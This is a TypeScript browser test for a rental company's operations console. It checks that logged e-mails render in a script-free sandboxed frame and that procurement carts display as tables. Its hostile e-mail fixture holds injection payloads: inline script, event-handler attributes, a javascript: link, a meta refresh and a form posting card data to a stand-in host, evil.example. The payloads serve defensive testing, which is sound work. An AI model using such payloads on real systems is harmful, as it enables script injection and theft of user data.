import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AppDeps } from '../../functions/http/deps';
import { buildMime } from '../../functions/mail/mime';
import { recordPayload } from '../../functions/store/payload-log';
import { keys } from '../../functions/store/keys';
import { runAxe } from '../support/axe';
import { launchBrowser } from '../support/browser';
import { addTestStaff, registerTestRequest, signedIn } from '../support/ops';
import { daysAhead } from '../support/punchout';
import { DESKTOP, PHONE, screenshot } from '../support/screenshots';
import { seededStack, startServer } from '../support/stack';

let deps: AppDeps;
let server: { base: string; stop(): Promise<void> };
let browser: Browser;
let operator: Awaited<ReturnType<typeof signedIn>>;
let requestId: string;

/**
 * An e-mail whose HTML tries everything a hostile or broken body could: inline script, event
 * handlers, a javascript: link, a form, a meta refresh, a remote image (a tracking pixel), an
 * iframe, SVG onload. The console must show it and run none of it.
 */
const HOSTILE_HTML = `<!DOCTYPE html><html><head><meta http-equiv="refresh" content="0;url=https://evil.example/">
<script>parent.document.title = 'pwned by script'; top.pwned = 1;</script></head>
<body style="font-family:sans-serif">
<p id="greeting" style="color:rgb(180, 0, 0)">Dear <b>Jane</b>, your request is confirmed.</p>
<img src="x" onerror="parent.document.title = 'pwned by onerror'">
<img id="pixel" src="https://tracker.example/pixel.gif" alt="">
<svg onload="parent.document.title = 'pwned by svg'"><circle r="4"></circle></svg>
<a id="js-link" href="javascript:parent.document.title = 'pwned by link'">Manage your request</a>
<form action="https://evil.example/steal" method="post"><input name="card"><button id="steal">Send</button></form>
<iframe src="https://evil.example/"></iframe>
</body></html>`;

const OCI_CART = {
  action: 'http://localhost:4999/hook?sap-client=100',
  target: '_top',
  charset: 'utf-8',
  fields: [
    ['NEW_ITEM-DESCRIPTION[1]', 'Estate, e.g. Skoda Octavia Combi'],
    ['NEW_ITEM-QUANTITY[1]', '1'],
    ['NEW_ITEM-PRICE[1]', '212.40'],
    ['NEW_ITEM-CURRENCY[1]', 'EUR'],
    ['NEW_ITEM-LONGTEXT_1:132[]', 'Amsterdam Sloterdijk, pick-up Mon 7 Dec 09:00'],
    ['~OkCode', 'ADDI'],
  ],
};

beforeAll(async () => {
  deps = await seededStack();
  server = await startServer(deps);
  browser = await launchBrowser();
  operator = await signedIn(deps, await addTestStaff(deps, 'operator'));
  const request = await registerTestRequest(deps, { period: { pickup: daysAhead(10, 9), return: daysAhead(12, 17) } });
  requestId = request.id;
  const owner = keys.request(request.id).pk;
  const at = new Date();
  const mime = buildMime(
    { from: { name: 'FlexFleet', email: 'noreply@flexfleet.example' }, to: 'jane.doe@acme.example', subject: 'Your rental is confirmed', text: 'Dear Jane, your request is confirmed.', html: HOSTILE_HTML, attachments: [{ filename: 'reservation.ics', contentType: 'text/calendar; charset=UTF-8', content: 'BEGIN:VCALENDAR\r\nEND:VCALENDAR' }] },
    { messageId: 'hostile@flexfleet.example', date: at },
  );
  await recordPayload(deps.db, { kind: 'email', direction: 'out', owner, requestId: request.id, connectionId: request.connectionId, contentType: 'message/rfc822', body: mime }, at);
  await recordPayload(deps.db, { kind: 'cart', direction: 'out', owner, requestId: request.id, connectionId: request.connectionId, contentType: 'application/json', body: JSON.stringify(OCI_CART) }, new Date(at.getTime() + 1));
});

afterAll(async () => {
  await browser?.close();
  await server?.stop();
});

async function detailPage(viewport: { width: number; height: number }): Promise<{ context: BrowserContext; page: Page; blocked: string[] }> {
  const context = await browser.newContext({ viewport });
  await context.addCookies([{ name: '__Host-ff_ops', value: operator.cookie.split('=')[1], domain: '127.0.0.1', path: '/', secure: true, httpOnly: true, sameSite: 'Strict' }]);
  const page = await context.newPage();
  page.setDefaultTimeout(10_000);
  const blocked: string[] = [];
  page.on('console', (m) => blocked.push(m.text()));
  // Nothing may leave for the hostile hosts; every attempt is noted.
  await context.route(/evil\.example|tracker\.example/, (route) => {
    blocked.push(`request to ${route.request().url()}`);
    return route.abort();
  });
  await page.goto(`${server.base}/ops#/requests/${encodeURIComponent(requestId)}`);
  await page.waitForSelector('body[data-ready=true] details.payload');
  return { context, page, blocked };
}

describe('the payload log as a readable view, the raw payload one click away', () => {
  it('renders a logged e-mail in a sandboxed frame that runs none of its script, loads nothing remote and keeps its styling', async () => {
    const { context, page, blocked } = await detailPage(DESKTOP);
    const title = await page.title();
    await page.click('details.payload[data-kind=email] > summary');
    await page.waitForSelector('.payload-mail[data-rendered=true] iframe.mail-frame');
    // The frame: an empty sandbox (no allow-scripts, no same origin), content from srcdoc with its own CSP.
    const frameAttrs = await page.$eval('iframe.mail-frame', (f) => ({ sandbox: f.getAttribute('sandbox'), src: f.getAttribute('src'), srcdoc: (f as HTMLIFrameElement).srcdoc }));
    expect(frameAttrs.sandbox).toBe('');
    expect(frameAttrs.src).toBeNull();
    expect(frameAttrs.srcdoc).toContain(`content="default-src 'none'; style-src 'unsafe-inline'; img-src data:; form-action 'none'; base-uri 'none'"`);
    const mail = page.frameLocator('iframe.mail-frame');
    await expect.poll(() => mail.locator('#greeting').textContent()).toBe('Dear Jane, your request is confirmed.');
    // Styled as sent (inline style kept), although the console's own CSP forbids inline styles.
    expect(await mail.locator('#greeting').evaluate((p) => getComputedStyle(p).color)).toBe('rgb(180, 0, 0)');
    // Give handlers a moment to fire, then: no script ran, the console is untouched, nothing went to the hostile hosts.
    await page.waitForTimeout(500);
    await mail.locator('#js-link').click().catch(() => undefined);
    await mail.locator('#steal').click().catch(() => undefined);
    await page.waitForTimeout(300);
    expect(await page.title()).toBe(title);
    expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
    expect(blocked.filter((b) => b.startsWith('request to'))).toEqual([]);
    expect(page.url()).toContain(`/ops#/requests/${encodeURIComponent(requestId)}`);
    // The e-mail's facts, read from its headers.
    const facts = await page.locator('.payload-mail .payload-facts').innerText();
    expect(facts).toContain('Your rental is confirmed');
    expect(facts).toContain('jane.doe@acme.example');
    expect(facts).toContain('reservation.ics (text/calendar)');
    // The raw payload, one click away, shows the script as text.
    await page.click('details.payload[data-kind=email] details.payload-raw > summary');
    expect(await page.locator('details.payload[data-kind=email] details.payload-raw pre').innerText()).toContain('Subject: Your rental is confirmed');
    await screenshot(page, 'payload-log-email');
    await context.close();
  });

  it('shows an OCI cart as a table of fields by item, with the form target, and its raw JSON behind one click', async () => {
    for (const viewport of [DESKTOP, PHONE]) {
      const { context, page } = await detailPage(viewport);
      await page.click('details.payload[data-kind=cart] > summary');
      const table = page.locator('details.payload[data-kind=cart] table.oci-cart-table');
      expect(await table.locator('thead th').allTextContents()).toEqual(['Field', 'Item 1']);
      expect(await table.locator('tr[data-field=DESCRIPTION] td').textContent()).toBe('Estate, e.g. Skoda Octavia Combi');
      expect(await table.locator('tr[data-field=PRICE] td').textContent()).toBe('212.40');
      expect(await table.locator('tr[data-field=LONGTEXT] td').textContent()).toBe('Amsterdam Sloterdijk, pick-up Mon 7 Dec 09:00');
      const facts = await page.locator('details.payload[data-kind=cart] .payload-facts').innerText();
      expect(facts).toContain('http://localhost:4999/hook?sap-client=100');
      expect(facts).toContain('~OkCode');
      const raw = page.locator('details.payload[data-kind=cart] details.payload-raw');
      expect(await raw.locator('pre').isVisible()).toBe(false);
      await raw.locator('summary').click();
      expect(JSON.parse(await raw.locator('pre').innerText())).toEqual(OCI_CART);
      const report = await runAxe(page, 'request detail with the payload log open');
      expect(report.blocking).toEqual([]);
      await screenshot(page, 'payload-log-cart');
      await context.close();
    }
  });
});
